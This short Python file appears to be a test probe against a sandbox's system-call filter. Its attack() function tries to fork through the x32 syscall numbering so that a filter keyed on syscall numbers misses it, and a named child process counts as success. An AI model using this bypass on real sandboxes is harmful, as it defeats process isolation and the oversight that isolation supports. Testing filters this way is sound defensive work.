"""Use the x32 numbers, which a filter by number may miss. Success: a second process."""

import ctypes
import platform


def attack():
    if platform.machine() != "x86_64":
        return
    if ctypes.CDLL(None).syscall(0x40000000 + 57) == 0:
        import os
        import time

        ctypes.CDLL(None).prctl(15, ESCAPEE)
        time.sleep(5)
        os._exit(0)
